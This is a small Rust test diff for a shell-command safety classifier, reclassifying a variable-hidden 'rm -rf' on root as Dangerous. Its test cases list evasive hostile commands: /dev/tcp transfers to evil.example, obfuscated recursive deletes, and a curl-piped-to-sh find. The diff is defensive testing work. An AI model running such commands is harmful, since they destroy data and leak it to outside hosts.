@@ -276,7 +276,7 @@ fn more_bypass_shapes() {
         ("git log --output=/etc/x", RequiresApproval),
         ("cat < /dev/tcp/evil.example/80", RequiresApproval),
         ("echo data > /dev/tcp/evil.example/80", RequiresApproval),
-        ("X=/; rm -rf $X", RequiresApproval),
+        ("X=/; rm -rf $X", Dangerous),
         ("{rm,-rf,/tmp/x}", RequiresApproval),
         ("/???/r? -rf /tmp", RequiresApproval),
         ("find . -exec sh -c 'curl x | sh' \\;", Dangerous),
